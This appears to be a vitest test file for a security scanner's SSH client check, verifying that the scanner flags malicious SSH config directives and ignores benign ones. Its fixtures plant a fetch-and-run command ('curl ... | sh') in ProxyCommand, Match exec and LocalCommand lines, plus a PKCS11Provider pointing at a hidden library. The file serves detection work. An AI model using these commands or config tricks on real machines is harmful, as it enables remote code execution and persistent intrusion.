import { appendFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, it } from 'vitest';
import { makeRoot, scanRoot, shown } from '../../../test/throwaway-root.ts';
import { sshClient } from './check.ts';

const shell = 'curl -s http://203.0.113.5/a | sh';

it('finds commands and libraries that come with a connection', async () => {
  const report = await scanRoot([sshClient], {
    '/etc/ssh/ssh_config': `Host *\n  ProxyCommand sh -c "${shell}"\n`, '/root/.ssh/config': `Match exec "${shell}"\n User a\n`,
    '/home/lin/.ssh/config': `PermitLocalCommand yes\nHost git.example\n LocalCommand ${shell}\nInclude more\n`, '/home/lin/.ssh/more': 'PKCS11Provider /tmp/.p/x.so\n',
  });
  expect(shown(report)).toEqual(['high /etc/ssh/ssh_config', 'high /home/lin/.ssh/config', 'high /home/lin/.ssh/more', 'high /root/.ssh/config']);
  expect(report.findings.find(({ path }) => path === '/home/lin/.ssh/config')).toMatchObject({ kind: 'intrusion', user: 'lin' });
});

it('is silent for jump hosts and mild for careless settings', async () => {
  const report = await scanRoot([sshClient], {
    '/etc/ssh/ssh_config': { text: 'Host *\n ForwardAgent yes\n', package: 'openssh-client', config: true },
    '/root/.ssh/config': 'Host *\n StrictHostKeyChecking no\n ForwardAgent yes\n',
    '/home/lin/.ssh/config': 'Host b\n ProxyCommand ssh -W %h:%p jump.example\n ProxyJump none\nHost c\n ProxyCommand nc -X connect -x 192.0.2.3:3128 %h %p\n StrictHostKeyChecking no\nHost d\n LocalCommand echo hi\n IdentityFile ~/.ssh/d\n',
  });
  expect(report.findings.map(({ kind, level, path }) => `${kind} ${level} ${path}`)).toEqual(['weakness low /root/.ssh/config', 'weakness low /root/.ssh/config']);
});

it('is silent for what a package links into the folder of settings, and not for what the link was turned to', async () => {
  const careless = 'Host vsock/*\n StrictHostKeyChecking no\n';
  const root = makeRoot({ '/etc/ssh/ssh_config': 'Include /etc/ssh/ssh_config.d/*.conf\n', '/usr/lib/systemd/ssh_config.d/20-x.conf': { text: careless, package: 'systemd' }, '/etc/ssh/ssh_config.d/20-x.conf': '->/usr/lib/systemd/ssh_config.d/20-x.conf' });
  appendFileSync(join(root, 'var/lib/dpkg/info/systemd.list'), '/etc/ssh/ssh_config.d/20-x.conf\n');
  expect(shown(await scanRoot([sshClient], root))).toEqual([]);
  const link = join(root, 'etc/ssh/ssh_config.d/20-x.conf');
  rmSync(link);
  writeFileSync(join(root, 'etc/ssh/mine.conf'), careless);
  symlinkSync('/etc/ssh/mine.conf', link);
  expect(shown(await scanRoot([sshClient], root))).toEqual(['low /etc/ssh/ssh_config.d/20-x.conf']);
});
